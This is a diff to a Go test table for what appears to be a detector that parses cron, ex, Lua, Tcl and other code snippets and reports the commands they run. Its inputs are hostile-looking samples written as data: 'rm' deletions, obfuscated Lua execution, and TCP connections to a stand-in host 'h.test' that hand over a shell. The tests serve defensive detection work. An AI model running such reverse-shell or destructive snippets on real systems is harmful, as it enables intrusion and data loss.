@@ -42,6 +42,7 @@ func TestRead(t *testing.T) {
 		{commands.Cron, "# no\n* * * * * rm x\n@daily\trm y\nMAILTO=me\n", "Run[line] rm x; Run[line] rm y"},
 		{commands.Ex, "set nu\n%!rm x\nr !rm y\n:call system('rm z')", "Run[line] rm x; Run[line] rm y; Run[line] rm z"},
 		{commands.Ex, "+12", ""},
+		{commands.Ex, ":py3 import os; os.system('rm x')", "Run[text python] import os; os.system('rm x'); Run[line] rm x"},
 		{commands.Lua, `os.execute("\114\109 x")`, "Run[line] rm x"},
 		{commands.Lua, `os.execute("\114\109\032x")`, "Run[line] rm x; Run[text lua] …"},
 		{commands.Lua, `load(string.char(112))()`, "Run[text lua] …"},
@@ -54,9 +55,10 @@ func TestRead(t *testing.T) {
 		{commands.Native, `system("rm x")`, "Run[line] rm x"},
 		{commands.Native, `(shell-command "rm x")`, "Run[line] rm x; Run[line] rm x"},
 		{commands.Native, `"rm x".execute()`, "Run[line] rm x"},
-		{commands.Native, `["sh", "-c", "rm x"].execute()`, "Run[line] rm x; Run[line] -c; Run[line] sh"},
+		{commands.Native, `["sh", "-c", "rm x"].execute()`, "Run[line] sh; Run[line] -c; Run[line] rm x; Run[words] sh -c rm x"},
 		{commands.Native, `c, _ := net.Dial("tcp", "h.test:1"); exec.Command("sh")`, "Send tcp; Run[line] sh; Expose{tunnel} a shell of this machine"},
 		{commands.Native, `c, _ := net.Dial("tcp", "h.test:1"); exec.Command("ls")`, "Send tcp; Run[line] ls"},
+		{commands.Tcl, `set s [socket h.test 1]; eval $e`, "Send h.test; Expose{tunnel} a shell of this machine"},
 		{commands.Native, `x <- run; print(system)`, ""},
 	} {
 		r := Read(c.lang, c.text, code.Setting{Home: "/home/dev", Secret: func(string) bool { return false }})
